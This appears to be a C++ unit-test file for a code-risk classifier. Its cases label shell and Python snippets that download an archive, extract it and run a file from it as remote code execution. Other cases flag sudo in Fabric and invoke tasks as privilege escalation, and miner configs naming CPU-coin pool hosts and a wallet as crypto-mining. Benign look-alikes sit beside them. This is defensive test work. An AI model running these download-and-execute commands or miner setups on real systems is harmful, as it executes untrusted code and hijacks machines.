// The classes the tenth round modelled (issue 14), found in the realworld
// corpus's fifth batch (public code this team did not write): an archive
// downloaded, extracted and a file from it run (a miner's installer: curl -O
// of a zip, unzip, cd into it, node index.js; the same in Python through
// zipfile/tarfile opened by name), CPU-coin mining pools named without the
// stratum scheme, and Fabric 2/invoke tasks' contexts. Each attack has a benign neighbour that must stay where the
// rubric puts it. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

constexpr Language kSh = Language::shell;

TEST(TenthRoundClasses, FilesFromAnExtractedDownloadRunTheDownload) {
  const Case cases[] = {
      {"zip downloaded with -O, unzipped, its script run after cd", B,
       "curl https://example.com/x/tool.zip -L -O\nunzip tool.zip\ncd tool || exit 1\nnode index.js\n",
       "REMOTE-CODE-EXECUTION", kSh},
      {"tarball extracted by name, its installer run by path", B,
       "wget https://example.com/x/tool.tar.gz\ntar xzf tool.tar.gz\nbash tool/install.sh\n",
       "REMOTE-CODE-EXECUTION", kSh},
      {"download piped into tar -C DIR, a binary from DIR run", B,
       "curl -L https://example.com/x/tool.tar.gz | tar xz -C /opt/tool\n/opt/tool/bin/start\n",
       "REMOTE-CODE-EXECUTION", kSh},
      {"unzip -d DIR of a download, a script from DIR run", B,
       "curl -L -o p.zip https://example.com/x/p.zip\nunzip p.zip -d pkg\npython3 pkg/setup_hook.py\n",
       "REMOTE-CODE-EXECUTION", kSh},
      // Benign neighbours: a downloaded data archive beside the code's own
      // scripts (only the archive's directory holds downloaded files), a
      // toolchain put on PATH (a bare command name is a PATH lookup, not a
      // file in the tree), and a vendored archive (not a download).
      {"a data archive downloaded and extracted; the code's own scripts run", L,
       "curl -L -o data.zip https://example.com/x/data.zip\nunzip data.zip\npython3 train.py --data data/\n"
       "./run_eval.sh\n",
       nullptr, kSh},
      {"a toolchain downloaded and put on PATH; commands by name are PATH lookups", L,
       "mkdir -p ~/tools\ncd ~/tools\nwget https://example.com/x/cross.tgz\ntar -xvf cross.tgz\ncd cross/bin\n"
       "export PATH=$(pwd):$PATH\ncd ~/tools\nls\n",
       nullptr, kSh},
      {"a vendored archive extracted and run", L, "cp ./vendor/tool.zip .\nunzip tool.zip\nnode tool/index.js\n",
       nullptr, kSh},
  };
  for (const auto& c : cases) check(c);
}

// The same in Python: an archive opened by the name a download was saved
// under holds the download, and extractall(dir) writes it under dir.
TEST(TenthRoundClasses, PythonArchivesOpenedByNameHoldTheirDownload) {
  const Case cases[] = {
      {"zip downloaded, extracted, a script from it run", B,
       "import urllib.request, zipfile, subprocess\n"
       "urllib.request.urlretrieve('https://example.com/t.zip', 't.zip')\n"
       "zipfile.ZipFile('t.zip').extractall('tool')\nsubprocess.run(['node', 'tool/index.js'])\n",
       "REMOTE-CODE-EXECUTION"},
      {"tarball downloaded, extracted, put on sys.path and imported", B,
       "import urllib.request, tarfile, sys, importlib\n"
       "urllib.request.urlretrieve('https://example.com/t.tgz', 't.tgz')\n"
       "tarfile.open('t.tgz').extractall('plug', filter='data')\nsys.path.insert(0, 'plug')\n"
       "importlib.import_module('plugin_x')\n",
       "REMOTE-CODE-EXECUTION"},
      {"a data archive downloaded and extracted; the code's own scripts run (processes: MEDIUM)", M,
       "import urllib.request, zipfile, subprocess\n"
       "urllib.request.urlretrieve('https://example.com/d.zip', 'd.zip')\n"
       "zipfile.ZipFile('d.zip').extractall('data')\n"
       "subprocess.run(['python3', 'train.py', '--data', 'data'])\nsubprocess.run(['python3', 'scripts/eval.py'])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// Fabric 2 and invoke call a @task with a context as its first argument:
// its run/sudo are this code's commands (Fabric 1's fabric.api was modelled).
TEST(TenthRoundClasses, TaskContextsRunTheCodesCommands) {
  const Case cases[] = {
      {"a Fabric 2 deploy task restarting a service with sudo", H,
       "from fabric import task\n\n@task(hosts=['web1'])\ndef deploy(c):\n    c.run('cd /srv/app; git pull')\n"
       "    c.sudo('supervisorctl restart gunicorn')\n",
       "PRIVILEGE-ESCALATION"},
      {"an invoke task installing into /usr/local with sudo", H,
       "from invoke import task\n\n@task\ndef install(c):\n    c.sudo('cp tool /usr/local/bin/')\n",
       "PRIVILEGE-ESCALATION"},
      {"invoke build and clean tasks run ordinary commands (MEDIUM)", M,
       "from invoke import task\n\n@task\ndef build(c):\n    c.run('python -m build')\n\n"
       "@task\ndef clean(c):\n    c.run('rm -rf dist build')\n",
       "RUNS-PROCESS"},
      {"a task decorator of some other library is not a Fabric context", L,
       "from celery import Celery\napp = Celery('x')\n\n@app.task\ndef add(c, d):\n    return c.run(d)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(TenthRoundClasses, CpuCoinPoolsAreMiningPools) {
  const Case cases[] = {
      {"a miner's config written with an rplant pool host and a wallet", B,
       "HOST=\"stratum-na.rplant.xyz\"\nWALLET=\"mbc1qexample\"\n"
       "echo '{\"host\": \"'$HOST'\", \"worker\": \"'$WALLET'\"}' > config.json\n",
       "CRYPTO-MINER", kSh},
      {"a Python client pointed at a zpool endpoint", B,
       "import socket\nHOST = 'power2b.sea.mine.zpool.ca'\ns = socket.create_connection((HOST, 6240))\n",
       "CRYPTO-MINER"},
      {"a database connection pool host is no mining pool", L,
       "import socket\nHOST = 'db-pool.internal.example.com'\ns = socket.create_connection((HOST, 5432))\ns.close()\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
